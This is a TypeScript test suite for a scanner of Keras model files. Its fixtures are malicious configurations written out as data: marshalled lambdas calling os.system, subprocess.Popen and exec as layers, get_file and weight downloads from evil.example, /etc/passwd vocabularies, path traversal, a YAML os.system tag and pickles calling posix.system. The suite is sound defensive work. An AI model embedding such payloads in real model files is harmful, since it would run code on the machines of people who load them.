import { execFileSync } from 'node:child_process';
import { describe, expect, test } from 'vitest';
import { concat, utf8 } from '#formats/test-files/bytes';
import { op, reduce, stream } from '#formats/test-files/pickle';
import { makeZip } from '#formats/test-files/zip';
import { isAlarm, scanBytes } from '../test-scan.ts';

type Json = null | string | number | boolean | readonly Json[] | { readonly [key: string]: Json };

/** `lambda x: __import__("os").system("id")` as CPython 3.11 marshals it: only its head and its names matter. */
const marshalled = Buffer.from(
  concat(
    '\xe3',
    new Uint8Array([1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 3, 0, 0, 0, 3, 0, 0, 0]),
    's\x04\x00\x00\x00\x97\x00t\x01',
    ')\x03z\x02os',
    'z\x06system',
    'z\x0a__import__',
  ),
).toString('base64');

const layer = (
  className: string,
  config: Json = {},
  module: string | null = 'keras.layers',
  more: { readonly [key: string]: Json } = {},
): Json => ({
  module,
  class_name: className,
  config:
    typeof config === 'object' && config !== null && !Array.isArray(config)
      ? { name: className.toLowerCase(), trainable: true, ...config }
      : config,
  registered_name: null,
  ...more,
});
const model = (...layers: readonly Json[]): Json => ({
  module: 'keras',
  class_name: 'Sequential',
  config: {
    name: 'sequential',
    trainable: true,
    dtype: { module: 'keras', class_name: 'DTypePolicy', config: { name: 'float32' }, registered_name: null },
    layers,
  },
  registered_name: null,
  build_config: { input_shape: [null, 8] },
});
const calls = (module: string, name: string, args: Json = []): Json => ({
  module,
  class_name: 'function',
  config: name,
  registered_name: name,
  name: 'x',
  inbound_nodes: [{ args, kwargs: {} }],
});
const lambda: Json = { class_name: '__lambda__', config: { code: marshalled, defaults: null, closure: null } };
const scanJson = (value: Json) => scanBytes(utf8(JSON.stringify(value)), 'config.json');

const initializer = (name: string, config: Json = {}): Json => ({
  module: 'keras.initializers',
  class_name: name,
  config,
  registered_name: null,
});
const ordinary: readonly Json[] = [
  layer('InputLayer', { batch_shape: [null, 8], dtype: 'float32', sparse: false, name: 'input_layer' }),
  layer('Dense', {
    units: 12,
    activation: 'relu',
    kernel_initializer: initializer('GlorotUniform', { seed: null }),
    bias_initializer: initializer('Zeros'),
  }),
  layer('TimeDistributed', { layer: layer('Dense', { units: 2 }) }),
  layer('Bidirectional', { layer: layer('LSTM', { units: 3 }), backward_layer: layer('LSTM', { units: 3 }) }),
  layer('StringLookup', { vocabulary: ['a', '/etc/passwd', 'b'], max_tokens: null }),
  layer('TextVectorization', { vocabulary: null, standardize: 'lower_and_strip_punctuation' }),
  layer('Add', {}, 'keras.src.ops.numpy'),
  layer('Functional', { layers: [], name: 'inner' }, 'keras.src.models.functional'),
  layer('Rescaling', { scale: { class_name: '__numpy__', config: { value: [1, 2], dtype: 'float32' } } }),
];

describe('what Keras writes', () => {
  test('a version 3 configuration with wrappers, lookups and operations is clean and described', () => {
    const scan = scanJson({
      ...(model(...ordinary) as { readonly [key: string]: Json }),
      compile_config: {
        optimizer: {
          module: 'keras.optimizers',
          class_name: 'Adam',
          config: { learning_rate: { module: 'keras.optimizers.schedules', class_name: 'CosineDecay', config: {}, registered_name: null } },
          registered_name: null,
        },
        loss: { module: 'keras.losses', class_name: 'SparseCategoricalCrossentropy', config: {}, registered_name: null },
        metrics: ['accuracy', { module: 'keras.metrics', class_name: 'AUC', config: { name: 'auc' }, registered_name: null }],
      },
    });
    expect(scan).toMatchObject({ verdict: 'clean', outcome: 'scanned', format: { kind: 'keras-config' } });
    expect(scan.card).toMatchObject({
      architecture: 'Sequential',
      framework: 'Keras',
      inputs: [{ name: 'input_layer', type: 'float32', shape: '[None, 8]' }],
    });
    expect(scan.assurances[0]?.why).toContain('LSTM × 2');
  });

  test('a version 2 configuration without modules is clean', () => {
    const old = (className: string, config: { readonly [key: string]: Json } = {}): Json => ({
      class_name: className,
      config: { name: className, ...config },
    });
    const scan = scanJson({
      class_name: 'Functional',
      config: {
        name: 'model',
        layers: [
          { ...(old('InputLayer', { batch_input_shape: [null, 4] }) as object), inbound_nodes: [] },
          {
            ...(old('Conv2D', { kernel_initializer: old('VarianceScaling'), kernel_regularizer: old('L2') }) as object),
            inbound_nodes: [[['InputLayer', 0, 0, {}]]],
          },
          { ...(old('TFOpLambda', { function: 'math.reduce_mean' }) as object), inbound_nodes: [[['Conv2D', 0, 0, { axis: 1 }]]] },
          {
            ...(old('TFOpLambda', { function: '__operators__.getitem' }) as object),
            inbound_nodes: [[['Conv2D', 0, 0, { slice_spec: { class_name: '__slice__' } }]]],
          },
        ],
        output_layers: [['Conv2D', 0, 0]],
      },
      keras_version: '2.11.0',
      backend: 'tensorflow',
    });
    expect(['clean', 'info']).toContain(scan.verdict);
    expect(scan.card.outputs).toEqual([{ name: 'Conv2D', type: '', shape: '' }]);
  });

  test('a class that the loading program provides is told, and is no alarm', () => {
    expect(scanJson(model(layer('MyLayer', {}, null, { registered_name: 'Package>MyLayer' })))).toMatchObject({
      verdict: 'medium',
      rules: ['MDL-KER-005'],
    });
    expect(scanJson(model(layer('MyLayer', {}, null)))).toMatchObject({ verdict: 'low', rules: ['MDL-KER-005'] });
  });
});

describe('what an attacker writes', () => {
  const cases: readonly (readonly [name: string, config: Json, verdict: string, rule: string])[] = [
    ['a Lambda of version 3', model(layer('Lambda', { function: lambda })), 'critical', 'MDL-KER-001'],
    [
      'a Lambda of version 2',
      model(layer('Lambda', { function: [marshalled, null, null], function_type: 'lambda' }, null)),
      'critical',
      'MDL-KER-001',
    ],
    [
      'a Lambda in a wrapper in a wrapper',
      model(layer('TimeDistributed', { layer: layer('Bidirectional', { layer: layer('Lambda', { function: lambda }) }) })),
      'critical',
      'MDL-KER-001',
    ],
    [
      'a Lambda in a nested model',
      model(layer('Functional', { layers: [layer('Lambda', { function: lambda })] }, 'keras')),
      'critical',
      'MDL-KER-001',
    ],
    [
      'code as the output shape of a Lambda',
      model(layer('Lambda', { function: 'relu', output_shape: [marshalled, null, null], output_shape_type: 'lambda' }, null)),
      'critical',
      'MDL-KER-001',
    ],
    ['a lambda as activation', model(layer('Dense', { activation: lambda })), 'critical', 'MDL-KER-001'],
    ['a lambda as initializer', model(layer('Dense', { kernel_initializer: lambda })), 'critical', 'MDL-KER-001'],
    [
      'a lambda as value',
      model(layer('Dense', { kernel_regularizer: { class_name: '__lambda__', config: { value: [marshalled, null, null] } } })),
      'critical',
      'MDL-KER-001',
    ],
    ['a lambda as loss', { ...(model(layer('Dense')) as object), compile_config: { loss: lambda } }, 'critical', 'MDL-KER-001'],
    ['a lambda as metric', { ...(model(layer('Dense')) as object), compile_config: { metrics: [[lambda]] } }, 'critical', 'MDL-KER-001'],
    [
      'a renamed Lambda',
      model(layer('Custom>Lambda', { function: [marshalled], function_type: 'lambda' }, null)),
      'critical',
      'MDL-KER-001',
    ],
    ['code under a key of a custom class', model(layer('Thing', { blob: marshalled }, null)), 'high', 'MDL-KER-001'],
    [
      'a Lambda by name',
      model(layer('Lambda', { function: 'my_function', function_type: 'function', module: 'helpers' }, null)),
      'high',
      'MDL-KER-002',
    ],
    ['a Lambda with source text', model(layer('Lambda', { function: "lambda x: eval('1')" }, null)), 'high', 'MDL-KER-002'],
    ['os.system as a layer', model(calls('os', 'system', ['id'])), 'critical', 'MDL-KER-003'],
    ['subprocess.Popen as a layer', model(calls('subprocess', 'Popen', [['touch', '/tmp/x']])), 'critical', 'MDL-KER-003'],
    ['builtins.exec', model(calls('builtins', 'exec', ['import os'])), 'critical', 'MDL-KER-003'],
    ['importlib', model(calls('importlib', 'import_module', ['os'])), 'critical', 'MDL-KER-003'],
    [
      'os.system as class of an initializer',
      model(layer('Dense', { kernel_initializer: layer('system', {}, 'os') })),
      'critical',
      'MDL-KER-003',
    ],
    ['an unknown module', model(layer('Thing', {}, 'evil_package.layers')), 'high', 'MDL-KER-004'],
    [
      'an unknown module as the specification of a type',
      model(
        layer('Dense', { spec: { class_name: '__typespec__', spec_name: 'Thing', module: 'evil', config: [], registered_name: null } }),
      ),
      'high',
      'MDL-KER-004',
    ],
    ['get_file', model(calls('keras.utils', 'get_file', ['x', 'http://evil.example/x'])), 'critical', 'MDL-KER-006'],
    ['get_file by its inner path', model(calls('keras.src.utils.file_utils', 'get_file')), 'critical', 'MDL-KER-006'],
    ['get_file by a dotted name', model(calls('keras', 'utils.get_file')), 'critical', 'MDL-KER-006'],
    [
      'get_file by its registered name',
      model(layer('Dense', {}, 'keras.src.layers', { registered_name: 'get_file' })),
      'critical',
      'MDL-KER-006',
    ],
    ['load_model', model(calls('keras.models', 'load_model', ['/x'])), 'critical', 'MDL-KER-006'],
    ['protection switched off', model(calls('keras.config', 'enable_unsafe_deserialization')), 'critical', 'MDL-KER-006'],
    ['a class of Keras that has no place in a model', model(layer('ModelCheckpoint', {}, 'keras.callbacks')), 'high', 'MDL-KER-006'],
    ['a wrapped PyTorch module', model(layer('TorchModuleWrapper', { module: 'UEsDBA==' })), 'critical', 'MDL-KER-007'],
    ['a SavedModel from a path', model(layer('TFSMLayer', { filepath: 'saved/model', call_endpoint: 'serve' })), 'high', 'MDL-KER-008'],
    ['a module of TensorFlow Hub', model(layer('KerasLayer', { handle: 'https://hub.example/m' }, null)), 'high', 'MDL-KER-008'],
    [
      'a JAX function',
      model(layer('JaxLayer', { call_fn: { class_name: 'function', config: 'f', module: 'builtins', registered_name: 'f' } })),
      'high',
      'MDL-KER-008',
    ],
    ['a vocabulary from a file', model(layer('StringLookup', { vocabulary: '/etc/passwd' })), 'high', 'MDL-KER-009'],
    ['a vocabulary from a file beside it', model(layer('TextVectorization', { vocabulary: 'words.txt' })), 'high', 'MDL-KER-009'],
    ['weights from an address', model(layer('Thing', { weights: 'https://evil.example/w.h5' }, null)), 'high', 'MDL-KER-009'],
    ['an asset that leaves its folder', model(layer('Thing', { filename: '../../x' }, null)), 'high', 'MDL-KER-009'],
    ['an operation that writes', model(layer('TFOpLambda', { function: 'io.write_file' }, null)), 'high', 'MDL-KER-010'],
    ['an operation that loads a library', model(layer('TFOpLambda', { function: 'load_op_library' }, null)), 'high', 'MDL-KER-010'],
  ];
  test.each(cases)('%s', (_name, config, verdict, rule) => {
    const scan = scanJson(config);
    expect(scan.rules).toContain(rule);
    expect(scan.verdict).toBe(verdict);
  });

  test('a class that stands twice is judged in both readings', () => {
    const text =
      '{"class_name":"Sequential","config":{"layers":[{"class_name":"Lambda","class_name":"Dense","config":{"function":["x"],"function_type":"lambda"}}]}}';
    expect(scanBytes(utf8(text)).rules).toEqual(['MDL-KER-001', 'MDL-KER-011']);
  });

  test('keys written with escapes, and text in UTF-16, hide nothing', () => {
    const text = JSON.stringify(model(layer('Lambda', { function: lambda })));
    expect(isAlarm(scanBytes(utf8(text.replaceAll('class_name', 'class\\u005fname'))).verdict)).toBe(true);
    expect(isAlarm(scanBytes(Buffer.from(`\ufeff${text}`, 'utf16le')).verdict)).toBe(true);
  });

  test('the finding shows the call with its arguments and the path in the graph', () => {
    const [found] = scanJson(model(layer('Dense'), calls('subprocess', 'Popen', [['touch', '/tmp/x']]))).observations;
    expect(found?.evidence?.reconstruction).toContain('subprocess.Popen(');
    expect(found?.evidence?.reconstruction).toContain('"touch", "/tmp/x"');
    expect(found?.location.pointer).toBe('/config/layers/1');
  });

  test('a pickle in a wrapped PyTorch module is read', () => {
    const inner = makeZip([{ name: 'archive/data.pkl', data: stream(reduce('posix', 'system', op.text('id'))) }]);
    const scan = scanJson(model(layer('TorchModuleWrapper', { module: Buffer.from(inner).toString('base64') })));
    expect(scan.rules).toEqual(expect.arrayContaining(['MDL-KER-007', 'MDL-PKL-001']));
  });
});

describe('archives', () => {
  const metadata = utf8(JSON.stringify({ keras_version: '3.8.0', date_saved: '2025-02-01@10:00:00' }));
  const archive = (config: Json, more: readonly { readonly name: string; readonly data: Uint8Array }[] = []) =>
    makeZip([{ name: 'metadata.json', data: metadata }, { name: 'config.json', data: utf8(JSON.stringify(config)) }, ...more]);

  test('an ordinary one is recognised, and its version noted', () => {
    const scan = scanBytes(archive(model(...ordinary)));
    expect(scan.format.kind).toBe('keras-zip');
    expect(scan.verdict).toBe('info');
    expect(scan.card.framework).toMatch(/^Keras/);
  });

  test('code in its configuration is told with the member', () => {
    const scan = scanBytes(archive(model(layer('Lambda', { function: lambda }))));
    expect(scan.verdict).toBe('critical');
    expect(scan.observations.find(({ ruleId }) => ruleId === 'MDL-KER-001')?.location.member).toBe('config.json');
  });

  test('weights that are a NumPy archive of objects are read', () => {
    const objects = concat(
      '\x93NUMPY\x01\x00',
      118,
      0,
      "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }".padEnd(117),
      '\n',
      stream(reduce('posix', 'system', op.text('id'))),
    );
    const scan = scanBytes(archive(model(...ordinary), [{ name: 'model.weights.npz', data: makeZip([{ name: 'a.npy', data: objects }]) }]));
    expect(scan.verdict).toBe('critical');
  });
});

describe('models in YAML', () => {
  const yaml = (line: string) =>
    utf8(
      `backend: tensorflow\nclass_name: Sequential\nconfig:\n  name: m\n  layers:\n  - class_name: Dense\n    config:\n      units: 2\n${line}\nkeras_version: 2.4.0\n`,
    );
  test('a plain one raises no more than a note on its version', () => {
    expect(scanBytes(yaml('  trainable: true'), 'model.yaml').rules).toEqual(['MDL-KER-012']);
  });
  test.each([
    ['a tag that calls', "  other: !!python/object/apply:os.system ['id']", 'MDL-YML-001'],
    [
      'a Lambda with code',
      `  - class_name: Lambda\n    config:\n      function: !!python/tuple [${marshalled}, null, null]\n      function_type: lambda`,
      'MDL-KER-001',
    ],
    ['a Lambda layer', '  - class_name: Lambda\n    config:\n      function: f', 'MDL-KER-002'],
    ['a dangerous module', '  - class_name: system\n    module: os\n    config: {}', 'MDL-KER-003'],
  ])('%s is told', (_name, line, rule) => {
    const scan = scanBytes(yaml(line), 'model.yaml');
    expect(scan.rules).toContain(rule);
    expect(isAlarm(scan.verdict)).toBe(true);
  });
});

const python = '/usr/bin/python3';
function codeOfPython(): string {
  try {
    return execFileSync(
      python,
      ['-c', 'import base64, marshal; print(base64.b64encode(marshal.dumps((lambda x: __import__("os").system("id")).__code__)).decode())'],
      { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] },
    ).trim();
  } catch {
    return '';
  }
}
const real = codeOfPython();

test.skipIf(real === '')('names in code that Python itself marshals are listed (needs python3)', () => {
  const [found] = scanJson(model(layer('Lambda', { function: [real, null, null], function_type: 'lambda' }, null))).observations;
  expect(found?.detail).toContain('"system"');
  expect(found?.detail).toContain('"__import__"');
});
